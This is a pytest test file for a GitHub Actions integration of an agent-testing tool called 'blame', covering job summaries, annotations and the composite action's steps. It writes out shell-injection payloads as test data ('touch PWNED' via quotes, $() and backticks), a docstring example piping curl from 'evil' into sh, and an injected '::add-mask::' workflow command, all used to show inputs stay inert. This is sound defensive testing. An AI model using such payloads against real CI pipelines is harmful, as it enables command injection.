"""GitHub Actions: job summary, annotations on prompt files, and the composite action itself."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import venv
from pathlib import Path
from typing import Any

import pytest
import yaml

from blame import github
from blame.errors import ConfigError
from blame.recorder import TraceRecorder
from blame.results import CaseResult, CheckResult, SuiteResult, Suspect
from tests.conftest import EXAMPLES, ROOT


def suite(reason: str = "dropped it") -> SuiteResult:
    failed = CheckResult(
        name="contains:X",
        type="contains",
        passed=False,
        score=0.0,
        weight=1.0,
        message="expected X",
        blame=(Suspect("agent", "Coder", "Coder", 1, 0.9, reason),),
    )
    return SuiteResult(
        tests=(
            CaseResult(name="t", passed=False, reward=0.0, threshold=1.0, checks=(failed,)),
            CaseResult(name="e", passed=False, reward=0.0, threshold=1.0, error="boom"),
        )
    )


def test_annotations_point_at_the_culprits_prompt_file(tmp_path: Path) -> None:
    prompt = tmp_path / "prompts" / "coder.md"
    lines = list(github.error_annotations(suite(), {"Coder": prompt}, tmp_path))
    assert lines[0] == (
        "::error file=prompts/coder.md,title=blame%3A t%3A contains%3AX"
        "::expected X | culprit Coder: dropped it"
    )
    assert lines[1].startswith("::error title=blame%3A e::e: could not be evaluated: boom")


def test_a_check_failing_in_some_runs_of_a_test_that_passed_is_a_warning(tmp_path: Path) -> None:
    """The worst run of a test that passed (or was inconclusive) over its runs still shows
    its failed checks: an ::error on the pull request for a build that did not fail."""
    from dataclasses import replace

    from blame.runstats import new_run_stats

    failing = suite().tests[0]
    lines = []
    for passes, verdict in ((9, "PASS"), (3, "INCONCLUSIVE"), (0, "FAIL")):
        outcomes = (True,) * passes + (False,) * (10 - passes)
        stats = new_run_stats(outcomes, (0.0,) * 10, (None,) * 10, 0.5, 1)
        case = replace(failing, passed=verdict != "FAIL", runs=stats)
        assert case.verdict == verdict
        (line,) = github.error_annotations(SuiteResult(tests=(case,)), {}, tmp_path)
        lines.append(line.split(" ", 1)[0])
    assert lines == ["::warning", "::warning", "::error"]


def test_agent_text_cannot_issue_workflow_commands(tmp_path: Path) -> None:
    (line, _) = github.error_annotations(suite("x\n::add-mask::secret\r%0A"), {}, tmp_path)
    assert "\n" not in line and "\r" not in line  # the command cannot start a line
    assert line.endswith("culprit Coder: x\\x0a::add-mask::secret\\x0d%250A")


def test_the_summary_is_appended_only_where_github_asks(tmp_path: Path) -> None:
    target = tmp_path / "summary.md"
    target.write_text("earlier step\n")
    assert github.append_summary("# report", {"GITHUB_STEP_SUMMARY": str(target)})
    assert target.read_text() == "earlier step\n# report\n"
    assert not github.append_summary("# report", {})
    assert github.active({"GITHUB_ACTIONS": "true"}) and not github.active({})


@pytest.mark.parametrize(
    ("where", "reason"),
    [
        ("missing/summary.md", "No such file or directory"),
        (".", "Is a directory"),
        ("a\0b", "the path holds a NUL byte"),
    ],
)
def test_a_summary_that_cannot_be_written_is_one_clear_error(
    tmp_path: Path, where: str, reason: str
) -> None:
    target = str(tmp_path / where)
    with pytest.raises(ConfigError) as caught:
        github.append_summary("# report", {"GITHUB_STEP_SUMMARY": target})
    assert str(caught.value) == (
        f"GITHUB_STEP_SUMMARY: cannot append the job summary to {target!r}: {reason}; the "
        "results are written; point GITHUB_STEP_SUMMARY at a writable file, or unset it"
    )


@pytest.mark.parametrize(
    ("where", "reason"),
    [
        ("missing/summary.md", "No such file or directory"),
        (".", "Is a directory"),
        ("a\0b", "the path holds a NUL byte"),
        ("/proc/blame-summary.md", "No such file or directory"),
    ],
)
def test_a_summary_that_cannot_be_written_is_found_before_the_run(
    tmp_path: Path, where: str, reason: str
) -> None:
    target = str(tmp_path / where)
    problem = github.summary_problem({"GITHUB_STEP_SUMMARY": target})
    assert problem is not None and str(problem) == (
        f"GITHUB_STEP_SUMMARY: cannot append the job summary to {target!r}: {reason}; the "
        "tests run without it; point GITHUB_STEP_SUMMARY at a writable file, or unset it"
    )


@pytest.mark.parametrize("where", ["summary.md", "kept.md", "/dev/full", "/dev/null"])
def test_a_summary_that_can_be_opened_is_not_a_problem_and_is_left_as_it_was(
    tmp_path: Path, where: str
) -> None:
    (tmp_path / "kept.md").write_text("earlier step\n")
    target = tmp_path / where
    assert github.summary_problem({"GITHUB_STEP_SUMMARY": str(target)}) is None
    assert github.summary_problem({}) is None
    if where.endswith(".md"):  # made empty, as the runner makes it, or left as it was
        assert target.read_text() == ("earlier step\n" if where == "kept.md" else "")


def test_a_summary_that_is_a_pipe_with_a_reader_gets_the_report(tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    try:
        assert github.append_summary("# report", {"GITHUB_STEP_SUMMARY": str(pipe)})
        assert os.read(reader, 1000) == b"# report\n"
    finally:
        os.close(reader)


def _blame_test_in_a_job(tmp_path: Path, summary: str, *args: str) -> Any:
    (tmp_path / "t.json").write_text(
        TraceRecorder("t").finalize(final_output="no").to_json(), "utf-8"
    )
    (tmp_path / "blame.yaml").write_text(
        "tests:\n  - {name: t, trace: t.json, checks: [{type: contains, value: Paris}]}\n"
    )
    env = {**os.environ, "GITHUB_ACTIONS": "true", "BLAME_NO_WARN": "1"}
    env["GITHUB_STEP_SUMMARY"] = summary.format(tmp=tmp_path)
    return subprocess.run(
        [sys.executable, "-m", "blame", "test", *args],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )


BEFORE, AFTER = "the tests run without it", "the results are written"


@pytest.mark.parametrize(
    ("summary", "reason", "when"),
    [
        ("{tmp}/gone/summary.md", "No such file or directory", BEFORE),
        ("{tmp}", "Is a directory", BEFORE),
        ("/proc/blame-summary.md", "No such file or directory", BEFORE),
        ("/dev/full", "No space left on device", AFTER),  # opens; full when appended to
        ("{tmp}/pipe", "it is a named pipe that no process reads", AFTER),  # waited forever
    ],
)
def test_a_summary_that_cannot_be_written_costs_a_warning_not_the_suites_exit_code(
    tmp_path: Path, summary: str, reason: str, when: str
) -> None:
    """A summary that could not be written ended `blame test` in exit 2 after the whole run:
    the suite's exit code (1: a check failed) was lost, and --json printed nothing."""
    if summary.endswith("pipe"):
        os.mkfifo(summary.format(tmp=tmp_path))
    done = _blame_test_in_a_job(tmp_path, summary)
    assert done.returncode == 1, done.stderr
    assert done.stderr == (
        "blame: warning: GITHUB_STEP_SUMMARY: cannot append the job summary to "
        f"{summary.format(tmp=tmp_path)!r}: {reason}; {when}; point GITHUB_STEP_SUMMARY at a "
        "writable file, or unset it\n"
    )
    assert "::error title=blame%3A t%3A contains%3AParis::" in done.stdout
    assert (tmp_path / ".blame" / "results" / "latest.json").is_file()
    in_json = _blame_test_in_a_job(tmp_path, summary, "--json")
    assert in_json.returncode == 1
    assert json.loads(in_json.stdout)["passed"] is False


def test_blame_test_in_a_github_job_writes_summary_and_annotations(tmp_path: Path) -> None:
    summary = tmp_path / "summary.md"
    env = {
        **os.environ,
        "GITHUB_ACTIONS": "true",
        "GITHUB_STEP_SUMMARY": str(summary),
        "BLAME_NO_WARN": "1",
    }
    done = subprocess.run(
        [sys.executable, "-m", "blame", "test"],
        cwd=EXAMPLES / "simple_agent",
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 1, done.stderr
    assert summary.read_text().startswith("# blame report")
    assert re.search(r"^::error file=prompts/coder\.md,title=.*CoderAgent", done.stdout, re.M)


def _action_steps() -> list[dict[str, Any]]:
    action = yaml.safe_load((ROOT / "action.yml").read_text())
    assert action["runs"]["using"] == "composite"
    return list(action["runs"]["steps"])


def _run_step(step: dict[str, Any], values: dict[str, str], env: dict[str, str], cwd: Path) -> Any:
    """Run a step as the runner does: expressions are filled in its `env:` only."""
    filled = {
        name: re.sub(r"\$\{\{\s*([\w.-]+)\s*\}\}", lambda m: values[m.group(1)], str(value))
        for name, value in step.get("env", {}).items()
    }
    return subprocess.run(
        ["bash", "-e", "-c", step["run"]],
        cwd=cwd,
        env={**env, **filled},
        capture_output=True,
        text=True,
        check=False,
        timeout=600,
    )


def test_no_step_pastes_an_expression_into_its_script() -> None:
    """`${{ inputs.x }}` inside `run:` is pasted into the script before bash reads it: an input
    such as `"; curl evil | sh; "` would run. Inputs go through `env:` instead."""
    for step in _action_steps():
        assert "${{" not in step["run"], step["name"]
        assert all(str(value).startswith("${{") for value in step.get("env", {}).values())


HOSTILE_INPUTS = {
    "config": {"inputs.config": 'x"; touch PWNED; echo "'},
    "junit-xml": {"inputs.junit-xml": '$(touch PWNED)"; touch PWNED; "'},
    "args-substitution": {"inputs.args": "--replay $(touch PWNED) `touch PWNED`"},
    "args-quotes": {"inputs.args": "';touch PWNED;'"},
    "args-unbalanced": {"inputs.args": '--replay "; touch PWNED'},
}


@pytest.mark.parametrize("hostile", sorted(HOSTILE_INPUTS))
def test_hostile_inputs_are_arguments_never_commands(tmp_path: Path, hostile: str) -> None:
    """The suite step with the blame installed here: a shell payload in an input stays text."""
    (tmp_path / "blame.yaml").write_text(
        "tests:\n  - {name: t, trace: t.json, checks: [{type: contains, value: x}]}\n"
    )
    values = {
        "inputs.config": "blame.yaml",
        "inputs.junit-xml": "junit.xml",
        "inputs.args": "",
        **HOSTILE_INPUTS[hostile],
    }
    bin_dir = str(Path(sys.executable).parent)
    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"}
    done = _run_step(_action_steps()[1], values, env, tmp_path)
    assert not (tmp_path / "PWNED").exists()
    said = done.stdout + done.stderr
    assert done.returncode == 2, said  # bad input (no such file, option or quote), one line
    assert "error: " in said and "Traceback" not in said


def test_the_example_workflow_is_valid_and_keeps_to_the_trust_rules() -> None:
    workflow = yaml.safe_load((EXAMPLES / "ci" / "blame.yml").read_text())
    assert workflow["permissions"] == {"contents": "read"}
    triggers = workflow[True]  # YAML 1.1 reads the key `on` as true
    assert "pull_request_target" not in triggers
    assert any(s.get("uses", "").endswith("blame@main") for s in workflow["jobs"]["blame"]["steps"])


def _job(tmp_path: Path, **more: str) -> dict[str, str]:
    """The environment of a job whose PATH holds a `python` (a new environment) but no folder
    with a `blame` script, and whose user scheme (PYTHONUSERBASE) is a folder of its own."""
    env_dir = tmp_path / "venv"
    venv.EnvBuilder(system_site_packages=True, with_pip=True).create(env_dir)
    only_python = tmp_path / "only-python"
    only_python.mkdir()
    (only_python / "python").write_text(f'#!/bin/sh\nexec "{env_dir / "bin" / "python"}" "$@"\n')
    (only_python / "python").chmod(0o755)
    no_blame = [d for d in os.environ["PATH"].split(os.pathsep) if not (Path(d) / "blame").exists()]
    env = {
        **os.environ,
        "PATH": os.pathsep.join([str(only_python), *no_blame]),
        "PYTHONUSERBASE": str(tmp_path / "user"),
        "BLAME_NO_WARN": "1",
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
        **more,
    }
    env.pop("PYTHONPATH", None)
    return env


def _install(env: dict[str, str], tmp_path: Path) -> None:
    """The action's install step, installing blame from this checkout."""
    values = {"github.action_path": str(ROOT), "inputs.extras": ""}
    done = _run_step(_action_steps()[0], values, env, tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]


@pytest.fixture(scope="module")
def installed(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """A job (`_job`) whose `python` the install step has installed blame into: the folder pip
    put the `blame` script in is not on PATH (as with a user install or a bare interpreter)."""
    tmp_path = tmp_path_factory.mktemp("action")
    env = _job(tmp_path)
    _install(env, tmp_path)
    return env


def _run_suite_step(env: dict[str, str], project: Path, junit: Path) -> Any:
    values = {"inputs.config": "blame.yaml", "inputs.junit-xml": str(junit), "inputs.args": ""}
    return _run_step(_action_steps()[1], values, env, project)


def test_the_actions_steps_run_here_as_written(installed: dict[str, str], tmp_path: Path) -> None:
    """The suite step runs the blame the install step installed, with neither its scripts folder
    nor any other `blame` on PATH. Bug: it ran `blame` from PATH, which was not found here (and
    elsewhere could be another install's)."""
    done = _run_suite_step(installed, EXAMPLES / "simple_agent", tmp_path / "junit.xml")
    assert done.returncode == 1, done.stderr  # the example's checks fail on purpose
    assert "culprit CoderAgent (step 1)" in (tmp_path / "junit.xml").read_text()


@pytest.mark.parametrize("shadow", ["blame.py", "blame/__init__.py"])
def test_a_blame_module_in_the_repository_does_not_shadow_blame(
    installed: dict[str, str], tmp_path: Path, shadow: str
) -> None:
    """A project with its own top-level `blame.py` or `blame/` still runs the installed blame.
    Bug: the step ran `python -m blame` in the project's folder, which puts that folder first on
    sys.path, so the project's module ran instead (and no JUnit file was written)."""
    project = tmp_path / "project"
    shutil.copytree(EXAMPLES / "simple_agent", project, ignore=shutil.ignore_patterns(".blame"))
    (project / shadow).parent.mkdir(exist_ok=True)
    (project / shadow).write_text('raise SystemExit("the project\'s own blame ran")\n')
    done = _run_suite_step(installed, project, tmp_path / "junit.xml")
    assert done.returncode == 1, done.stderr
    assert "own blame" not in done.stderr
    assert "culprit CoderAgent (step 1)" in (tmp_path / "junit.xml").read_text()


def test_a_user_install_is_found_in_the_user_schemes_scripts_folder(tmp_path: Path) -> None:
    """Where pip installs into the user scheme (it falls back to it when the Python's own
    folders are not writable; PIP_USER forces it here), the suite step runs that `blame`."""
    env = _job(tmp_path, PIP_USER="1")
    _install(env, tmp_path)
    assert (tmp_path / "user" / "bin" / "blame").is_file()
    assert not (tmp_path / "venv" / "bin" / "blame").exists()
    done = _run_suite_step(env, EXAMPLES / "simple_agent", tmp_path / "junit.xml")
    assert done.returncode == 1, done.stderr
    assert "culprit CoderAgent (step 1)" in (tmp_path / "junit.xml").read_text()


def test_a_python_without_blame_is_one_line_error(tmp_path: Path) -> None:
    """The suite step without the install step: exit 2 and where it looked, no traceback."""
    done = _run_suite_step(_job(tmp_path), EXAMPLES / "simple_agent", tmp_path / "junit.xml")
    assert done.returncode == 2
    assert done.stderr == (
        f"blame: error: no blame in {tmp_path / 'venv' / 'bin'} or {tmp_path / 'user' / 'bin'}, "
        "where pip puts it; install blame with this python\n"
    )
